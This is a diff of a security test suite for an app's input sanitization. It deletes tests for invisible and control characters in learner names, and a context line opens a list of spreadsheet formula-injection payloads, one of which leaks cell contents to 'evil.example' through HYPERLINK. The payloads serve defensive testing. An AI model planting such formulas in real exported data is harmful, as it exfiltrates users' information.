@@ -64,38 +64,6 @@ describe('ASVS V1 Encoding and Sanitization', () => {
     });
   });
 
-  it.each([
-    '\u202Eelgoog.moc',
-    'Asha\u200B Menon',
-    'Asha\u2066 Menon\u2069',
-    'Asha\u00AD Menon',
-    'Asha\u3164 Menon',
-    'Asha\u{E0041} Menon',
-    '\x1B[2JAsha Menon',
-    'Asha\u061C Menon',
-    'Asha\u034F Menon',
-    'Asha\r\nMenon',
-  ])('V1.2: the name %j is stored without invisible characters', async (name) => {
-    const { id } = await academy.learner({ fullName: name });
-    const [row] = await academy.sql<{ full_name: string }>('SELECT full_name FROM users WHERE id = $1', [id]);
-    expect(row!.full_name).toMatch(/^(elgoog\.moc|(\[2J)?Asha Menon)$/);
-  });
-
-  it.each(['\u200B\u200D\u2060', '\u3164\u115F', '\u2800\u2800', '\u{E0020}\u{E0041}', '\u00AD', '   \t\n'])(
-    'V1.2: %j is no name',
-    async (name) => {
-      const answer = await academy.stranger.post('/api/auth/v1/signup', {
-        full_name: name,
-        email: 'blank@example.com',
-        password: 'correct horse battery',
-      });
-      expect(answer.body).toMatchObject({
-        statusCode: 400,
-        details: [{ field: 'full_name', message: 'Please enter your full name' }],
-      });
-    },
-  );
-
   describe('V1.2: a spreadsheet runs nothing of what learners wrote', () => {
     const FORMULAS = [
       '=HYPERLINK("http://evil.example?"&A1,"x")',
